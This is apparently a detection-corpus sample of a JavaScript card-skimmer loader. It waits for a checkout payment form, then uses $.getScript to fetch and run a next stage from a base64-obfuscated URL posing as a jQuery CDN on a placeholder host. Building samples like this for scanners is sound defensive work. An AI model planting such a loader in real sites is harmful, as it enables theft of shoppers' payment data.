// Written for shieldscan's corpus: a loader that waits for jQuery's ready
// and pulls its next stage with $.getScript when the payment form exists.
jQuery(function ($) {
  if ($("#co-payment-form").length && !window._ld) {
    window._ld = 1;
    $.getScript(atob("aHR0cHM6Ly9qcy1saWJzLWNkbi5leGFtcGxlL2pxdWVyeS5taW4uanM="), function () {});
  }
});
